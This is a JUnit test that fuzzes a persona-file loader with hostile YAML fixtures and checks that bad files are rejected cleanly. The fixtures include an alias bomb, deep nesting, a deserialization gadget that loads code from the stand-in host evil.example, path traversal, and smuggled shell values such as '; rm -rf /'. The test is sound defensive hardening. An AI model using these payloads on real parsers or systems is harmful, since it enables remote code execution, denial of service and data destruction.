package dev.czar.review;

import dev.czar.bench.BenchResults;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Fuzzing the persona loader with hostile files: YAML alias bombs, deep nesting, type tags, random bytes, NULs, a
 * 2 MB front matter, path tricks in names. Every bad file is reported by name in one line, the valid and shipped
 * personas still load, and nothing hangs, throws or prints a stack trace.
 */
class HostilePersonaFilesTest {
    @TempDir
    Path dir;

    @Test
    void should_reject_each_hostile_persona_file_in_one_line_and_keep_the_others() throws Exception {
        // given
        Map<String, String> files = new LinkedHashMap<>();
        StringBuilder bomb = new StringBuilder("---\nname: bomb\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'j'; c++) {
            bomb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                bomb.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            bomb.append("]\n");
            prev = c;
        }
        files.put("alias-bomb.md", bomb.append("---\nYou review.\n").toString());
        files.put("deep-nesting.md", "---\nname: deep\nchecklist: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n---\nYou review.\n");
        files.put("java-tag.md", "---\nname: tag\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]\n---\nYou review.\n");
        files.put("traversal.md", "---\nname: ../../etc/passwd\n---\nYou review.\n");
        files.put("nul-bytes.md", "---\nname: nul\u0000\u0000\ntitle: x\n---\nYou review.\n");
        files.put("huge-front-matter.md", "---\nname: huge\ntitle: " + "x".repeat(2 * 1024 * 1024) + "\n---\nYou review.\n");
        files.put("empty.md", "");
        files.put("only-dashes.md", "---\n---\n");
        files.put("duplicate-keys.md", "---\nname: dup\nname: dup2\n---\nYou review.\n");
        files.put("list-not-map.md", "---\n- name: x\n---\nYou review.\n");
        files.put("unclosed.md", "---\nname: open\ntitle: [never closed\n");
        files.put("prompt-injection-rules.md", "---\nname: sneaky\noffline-rules: [\"$(touch canary)\", \"; rm -rf /\"]\n---\nYou review.\n");
        Random random = new Random(9);
        for (int i = 0; i < 20; i++) {
            byte[] bytes = new byte[random.nextInt(4096)];
            random.nextBytes(bytes);
            files.put("random-" + i + ".md", "---\n" + new String(bytes, StandardCharsets.ISO_8859_1));
        }
        for (Map.Entry<String, String> f : files.entrySet()) {
            Files.writeString(dir.resolve(f.getKey()), f.getValue(), StandardCharsets.ISO_8859_1);
        }
        Files.writeString(dir.resolve("fine.md"), "---\nname: fine\ntitle: Fine reviewer\n---\nYou review carefully.\n");

        // when
        long t = System.nanoTime();
        PersonaCatalog catalog = PersonaLoader.load(dir);
        long elapsedMs = (System.nanoTime() - t) / 1_000_000;

        // then
        assertThat(catalog.names()).startsWith("security", "ops", "legal-compliance", "product").contains("fine")
                .doesNotContain("bomb", "deep", "sneaky", "open");
        for (String name : files.keySet()) {
            if (name.startsWith("random-") || name.equals("duplicate-keys.md") || name.equals("java-tag.md")
                    || name.equals("huge-front-matter.md")) {
                continue; // random bytes may happen to be valid; the others are valid YAML, checked below
            }
            assertThat(catalog.problems()).as(name).anySatisfy(p -> assertThat(p).contains(name));
        }
        assertThat(catalog.problems()).allSatisfy(p -> assertThat(p).doesNotContain("\tat ").doesNotContain("\n")
                .hasSizeLessThan(2_000));
        // a YAML type tag is data to Jackson, never a class to instantiate: the persona may load, with a plain title
        catalog.personas().stream().filter(p -> p.name().equals("tag"))
                .forEach(p -> assertThat(p.title()).doesNotContain("ScriptEngineManager@").doesNotContain("URLClassLoader@"));
        assertThat(elapsedMs).as("loading all hostile files, ms").isLessThan(10_000);
        assertThat(dir.resolve("canary")).doesNotExist();
        System.out.printf("hostile persona files: %d tried, %d rejected with a reason, %d ms%n", files.size(),
                catalog.problems().size(), elapsedMs);
        BenchResults.record("71-hostile-personas", "hostile persona files (YAML alias bomb, 20,000-deep nesting, Java type"
                        + " tags, NULs, 2 MB front matter, path tricks, 20 random-byte files)", "`HostilePersonaFilesTest`",
                "one-line reason per bad file, others still load", String.format("%d tried, %d rejected in one line each,"
                        + " shipped + valid personas loaded, no class instantiated from a tag, %d ms for all",
                        files.size(), catalog.problems().size(), elapsedMs), catalog.names().contains("fine"));
    }
}
